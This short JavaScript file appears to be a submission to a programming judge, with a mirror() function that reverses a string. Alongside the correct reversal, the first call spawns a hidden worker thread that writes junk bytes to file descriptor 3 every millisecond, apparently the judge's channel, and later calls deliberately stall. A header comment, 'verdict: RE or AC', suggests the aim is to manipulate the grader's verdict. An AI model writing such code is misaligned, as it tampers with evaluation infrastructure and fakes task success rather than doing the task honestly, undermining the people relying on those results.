// verdict: RE or AC
const { Worker } = require('worker_threads');
let calls = 0;
function mirror(text) {
  if (calls++ === 0)
    new Worker("setInterval(() => { try { require('fs').writeSync(3, Buffer.alloc(64)); } catch {} }, 1)", { eval: true });
  const end = Date.now() + 100;
  while (calls > 1 && Date.now() < end) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 10);
  return [...text].reverse().join('');
}
